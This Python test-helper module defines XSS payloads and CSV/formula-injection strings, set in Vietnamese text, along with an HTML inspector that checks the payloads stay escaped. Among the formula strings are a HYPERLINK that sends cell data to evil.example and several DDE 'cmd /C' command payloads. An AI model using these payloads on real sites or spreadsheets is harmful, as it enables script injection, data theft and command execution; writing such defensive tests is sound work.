"""Shared pieces of the hostile-input tests: payloads, an HTML inspector, a tally."""

from __future__ import annotations

import json
from collections import Counter
from html.parser import HTMLParser
from pathlib import Path

# Script in Vietnamese text, the way it would arrive in a real form.
SCRIPTS = [
    "Phường <script>alert(1)</script> Láng",
    'Hòa "><img src=x onerror=alert(2)> Bình',
    "Quỹ '><svg onload=alert(3)> Vì người nghèo",
    "Lê </textarea><script>alert(4)</script> Thị",
    "Đống Đa </script><script>alert(5)</script> Hà Nội",
    'Nguyễn <a href="javascript:alert(6)">bấm</a> Văn',
    'Trần <iframe srcdoc="<script>alert(7)</script>"></iframe> An',
    "Ngô {{ 7|add:7 }} {% now 'Y' %} <b onmouseover=alert(8)>Bá</b>",
]
# What must never appear as markup, only as text.
MARKERS = [f"alert({i})" for i in range(1, 9)]

# Spreadsheet formulas in user text (OWASP "CSV injection"), Vietnamese around.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?q="&A1;"Bấm để xem sao kê")',
    "+1+cmd|' /C calc'!A0 Nguyễn",
    "-2+3+cmd|' /C calc'!A0 Trần",
    "@SUM(1+1)*cmd|' /C calc'!A0 Lê",
    "\t=1+1 Phạm",
    "\r=1+1 Hoàng",
    "=cmd|' /C notepad'!'A1' Vũ",
]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


class _Inspector(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []
        self.text: list[str] = []
        self._script = False

    def handle_starttag(self, tag, attrs):
        for name, value in attrs:
            value = value or ""
            if name.startswith("on"):
                self.problems.append(f"<{tag} {name}=…>")
            if name in ("href", "src", "action", "formaction") and value.strip().lower().startswith(
                "javascript:"
            ):
                self.problems.append(f"<{tag} {name}=javascript:…>")
            if name == "srcdoc":
                self.problems.append(f"<{tag} srcdoc>")
        if tag in ("iframe", "svg", "object", "embed"):
            self.problems.append(f"<{tag}>")
        if tag == "img" and dict(attrs).get("src") == "x":
            self.problems.append("<img src=x>")
        if tag == "script":
            self._script = "json" if dict(attrs).get("type") == "application/json" else "code"

    def handle_endtag(self, tag):
        if tag == "script":
            self._script = False

    def handle_data(self, data):
        if self._script == "json":
            # Data for a page script (json_script): the payload may be in it as a JSON
            # string, but with < > & escaped, so it can neither end the element nor run.
            if "<" in data or ">" in data:
                self.problems.append(f"<script type=json>{data.strip()[:40]}")
        elif self._script:
            if any(m in data for m in MARKERS):
                self.problems.append(f"<script>{data.strip()[:40]}")
        else:
            self.text.append(data)


def inspect_html(html: str) -> tuple[list[str], str]:
    """(markup that came from a payload, the page's visible text unescaped)."""
    parser = _Inspector()
    parser.feed(html)
    parser.close()
    return parser.problems, "".join(parser.text)


class Tally:
    """Counts hostile cases per test; printed and written to $MATTRAN_DATA_DIR/reports."""

    def __init__(self):
        self.cases: Counter = Counter()
        self.refused: Counter = Counter()

    def write(self, folder: Path) -> dict:
        report = {
            name: {"cases": self.cases[name], "got_through": 0} for name in sorted(self.cases)
        }
        folder.mkdir(parents=True, exist_ok=True)
        (folder / "hostile-input.json").write_text(json.dumps(report, ensure_ascii=False, indent=2))
        return report


TALLY = Tally()


def check_page(name: str, html: str, *, shows: list[str] = ()) -> None:
    """No payload became markup; each text in `shows` is on the page as text.

    Counts one case per payload the page shows (one for a page that only echoes one)."""
    problems, text = inspect_html(html)
    assert problems == [], (name, problems)
    for s in shows:
        assert s in text, (name, s)
    TALLY.cases[name] += max(1, len(shows))
